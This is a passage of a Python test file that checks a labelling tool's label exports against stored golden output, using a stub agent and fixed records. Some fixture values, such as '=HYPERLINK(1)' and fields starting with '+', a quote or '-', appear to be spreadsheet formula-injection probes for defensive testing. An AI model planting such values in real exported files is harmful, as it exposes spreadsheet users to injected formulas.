    rec = agent_pb2.LabelRecord
    return [
        rec(id="b", label="dog", annotator="alice", time=t, source="manual", current=False, seq=1),
        rec(id="a.png", label="cat", annotator="alice", time=t + 1, source="manual", current=True, seq=2),
        rec(id="=HYPERLINK(1)", label="dog", annotator="+bob", time=t + 2.5, source="prior:knn",
            model_version="v0001", audit=True, current=True, seq=3),
        rec(id="dir/t0.raw", label="frog", annotator="carol", time=t + 3, source="manual", current=True, seq=4),
        rec(id="b", label="cat", annotator="'dave", time=t + 4, source="manual", current=True, seq=5),
        rec(id="gone", label="cat", annotator="alice", time=t + 5, source="manual", current=True, seq=6),
        rec(id="r", label="dog", annotator="alice", time=t + 6, source="manual", current=False, seq=7),
        rec(id="r", label="", annotator="alice", time=t + 7, source="manual", current=True, retracted=True, seq=8),
        rec(id="bad", label="dog", annotator="erin", time=t + 8, source="manual", current=True, seq=9),
        rec(id="c", label="bird", annotator="alice", time=t + 9, source="manual", current=True, seq=10),
    ]


def _golden_priors(calibrated: bool) -> list[agent_pb2.PriorLabel]:
    """PriorLabels' rows: the first carries the calibration (with a warning); "a.png" is labelled."""
    cal = agent_pb2.Calibration(source="labelled", held_out=6, temperature=1.25, audit_labels=0, left_out=1,
                                warning="confidences calibrated on 6 held-out labels only" if calibrated else "")
    rows = [agent_pb2.PriorLabel(id=i, label=lab, confidence=conf, model_version="v0002",
                                 probs={"cat": conf, "dog": 1 - conf - 0.1, "frog": 0.1})
            for i, lab, conf in (("u1", "cat", 0.7), ("a.png", "cat", 0.55), ("-u2", "dog", 0.2),
                                 ("u3", "cat", 0.333333333))]
    rows[0].calibration.CopyFrom(cal)
    return rows


class GoldenStub:
    """A fixed agent for ``export_labels``: what it answers, and which calls it got (in order)."""

    def __init__(self, priors: str = "calibrated") -> None:
        self.priors = priors
        self.calls: list[str] = []
        self.samples = _golden_samples()

    def _called(self, what: str, metadata: Any) -> None:
        assert tuple(metadata) == TOKEN, what
        self.calls.append(what)

    def PriorLabels(self, request: agent_pb2.PriorLabelsRequest, metadata: Any = ()) -> Any:
        self._called(f"PriorLabels {request.method}", metadata)
        if self.priors == "refused":
            return self._refuse(grpc.StatusCode.FAILED_PRECONDITION, "no model is serving yet; publish one")
        return iter(_golden_priors(self.priors == "calibrated"))

    def ListLabels(self, request: agent_pb2.ListLabelsRequest, metadata: Any = ()) -> Any:
        self._called(f"ListLabels history={request.history}", metadata)
        records = _golden_records()
        return iter(records if request.history else [r for r in records if r.current and not r.retracted])

    def GetStatus(self, request: agent_pb2.GetStatusRequest, metadata: Any = ()) -> Any:
        self._called("GetStatus", metadata)
        return agent_pb2.Status(classes=GOLDEN_CLASSES)

    def ListSamples(self, request: agent_pb2.ListSamplesRequest, metadata: Any = ()) -> Any:
        self._called(f"ListSamples {list(request.ids)} payload={request.include_payload}", metadata)
        if any(i not in self.samples for i in request.ids):
            return self._refuse(grpc.StatusCode.NOT_FOUND, "unknown sample id(s)")
        return iter(self._sent(self.samples[i], request.include_payload) for i in request.ids)

    @staticmethod
    def _sent(s: agent_pb2.Sample, payload: bool) -> agent_pb2.Sample:
        out = agent_pb2.Sample()
        out.CopyFrom(s)
        out.label = "stale"  # ListSamples' own labels are a later snapshot: the export must not use them
        if not payload:
            out.ClearField("payload")
        return out

    @staticmethod
    def _refuse(code: grpc.StatusCode, details: str) -> Iterator[Any]:
        raise _Refused(code, details)
        yield  # a generator: a stream raises when it is read, not when it is called


GOLDEN_CASES: dict[str, tuple[exports.ExportConfig, str]] = {
    "every format": (exports.ExportConfig(), "calibrated"),
    "csv with history, no priors": (exports.ExportConfig(formats=("csv",), history=True, prior_method=""),
                                    "calibrated"),
    "imagefolder only": (exports.ExportConfig(formats=("imagefolder",)), "calibrated"),
    "jsonl and fiftyone, priors refused": (exports.ExportConfig(formats=("jsonl", "fiftyone")), "refused"),
    "csv and imagefolder with history, uncalibrated": (
        exports.ExportConfig(formats=("csv", "imagefolder"), history=True), "uncalibrated"),
}


def _export_contents(out: Path, samples: dict[str, agent_pb2.Sample]) -> dict[str, Any]:
    """Every path under ``out``: a folder -> "folder", a text file -> its text, an image -> which sample's
    payload it is byte for byte ("payload SID") or the PNG of which sample's tensor ("png SID")."""
    images = {}
    for sid, s in samples.items():
        if s.WhichOneof("payload") == "encoded_image":
            images[s.encoded_image] = f"payload {sid}"
        elif s.WhichOneof("payload") == "tensor":
            t = s.tensor
            images[encode_png(tensor_pixels(t.dtype, tuple(t.shape), t.data))] = f"png {sid}"
    contents: dict[str, Any] = {}
    for p in sorted(out.rglob("*")):
        rel = p.relative_to(out).as_posix()
        if p.is_dir():
            contents[rel] = "folder"
        elif p.suffix in (".csv", ".jsonl", ".json"):
            contents[rel] = p.read_bytes().decode("utf-8")
        else:
            contents[rel] = images.get(p.read_bytes(), "unknown bytes")
    return contents


def _golden_run(name: str, tmp_path: Path) -> dict[str, Any]:
    config, priors = GOLDEN_CASES[name]
    stub = GoldenStub(priors)
    out = tmp_path / name.replace(" ", "_").replace(",", "")
    summary = exports.export_labels(stub, out, config, metadata=TOKEN)  # type: ignore[arg-type]
    return {"calls": stub.calls, "summary": dataclasses.asdict(summary),
            "files": _export_contents(out, stub.samples)}


@pytest.mark.parametrize("name", sorted(GOLDEN_CASES))
def test_export_writes_the_golden_bytes(name: str, tmp_path: Path) -> None:
    """An export of a fixed agent (GoldenStub) in each case is byte for byte what tests/agent/data/
    exports_golden.json holds: every file's text, every image's bytes, the summary and the calls made, as the
    export code of 246df6e wrote them (regenerate: python -m tests.agent.test_exports, only on purpose)."""
    golden = json.loads(GOLDEN.read_text(encoding="utf-8"))[name]
    got = _golden_run(name, tmp_path)
    assert got["calls"] == golden["calls"]
    assert got["summary"] == golden["summary"]
    assert list(got["files"]) == list(golden["files"])
    for rel, text in golden["files"].items():
        assert got["files"][rel] == text, rel


if __name__ == "__main__":
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        GOLDEN.write_text(json.dumps({name: _golden_run(name, Path(tmp)) for name in sorted(GOLDEN_CASES)},
                                     ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
